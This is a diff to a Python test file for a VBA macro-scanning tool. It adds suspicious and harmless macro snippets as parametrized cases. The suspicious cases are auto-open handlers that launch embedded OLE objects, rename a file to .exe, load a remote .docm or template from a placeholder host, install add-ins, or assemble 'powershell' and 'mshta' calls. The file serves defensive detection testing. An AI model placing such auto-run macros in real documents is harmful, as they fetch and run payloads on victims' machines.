@@ -27,6 +27,10 @@ def found(source: str) -> dict[str, Severity]:
     'Sub Auto_Open()\nx = Chr(112) & Chr(111) & "wershell"\nEnd Sub', 'Sub MultiPage1_Layout(ByVal i)\nCallByName o, "r", 1\nEnd Sub',
     'Sub AUTOOPEN()\nx = "ms" & _\n "hta http"\nEnd Sub', 'Sub Document_Close()\nExecuteExcel4Macro "EXEC(1)"\nEnd Sub',
     'Sub Workbook_Open()\nSet x = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")\nEnd Sub',
+    'Sub AutoOpen()\nActiveDocument.InlineShapes(1).OLEFormat.DoVerb\nEnd Sub', 'Sub AutoOpen()\nName "C:\\a.txt" As "C:\\a.exe"\nEnd Sub',
+    'Sub AutoOpen()\nDocuments.Open FileName:="http://h.example/a.docm"\nEnd Sub', 'Sub Auto_Open()\nAddIns.Add(f).Installed = True\nEnd Sub',
+    'Sub AutoOpen()\nActiveDocument.AttachedTemplate = "https://h.example/a.dotm"\nEnd Sub',
+    'Sub AutoOpen()\nApplication.OrganizerCopy a, b, "M", 3\nEnd Sub', 'Sub Workbook_Open()\nSheet1.OLEObjects(1).Verb xlVerbOpen\nEnd Sub',
 ])
 def test_starts_and_acts_is_critical(source: str) -> None:
     assert found(source)["MACRO-SUSPICIOUS"] is Severity.CRITICAL and "MACRO-AUTOEXEC" in found(source)
@@ -35,6 +39,8 @@ def test_starts_and_acts_is_critical(source: str) -> None:
 @pytest.mark.parametrize("source", [
     "Function Tax(x)\nTax = x * 5 / 100\nEnd Function", "Sub Format()\nRange(\"A1\").Font.Bold = True\nEnd Sub", "Sub 計算()\nMsgBox \"完成\"\nEnd Sub",
     "Sub Button1_Click()\n' Shell is not used here\nx = \"nutshell\"\nEnd Sub",
+    'Sub A()\nWorkbooks.Open ThisWorkbook.Path & "\\rates.xlsx"\nEnd Sub', 'Sub A()\nActiveDocument.AttachedTemplate = "Normal"\nEnd Sub',
+    'Sub A()\nSheets(1).Hyperlinks.Add Range("A1"), "https://h.example/"\nName a As b & ".bak"\nEnd Sub',
 ])
 def test_harmless_macro_is_only_present(source: str) -> None:
     assert found(source) == {"MACRO-PRESENT": Severity.MEDIUM}
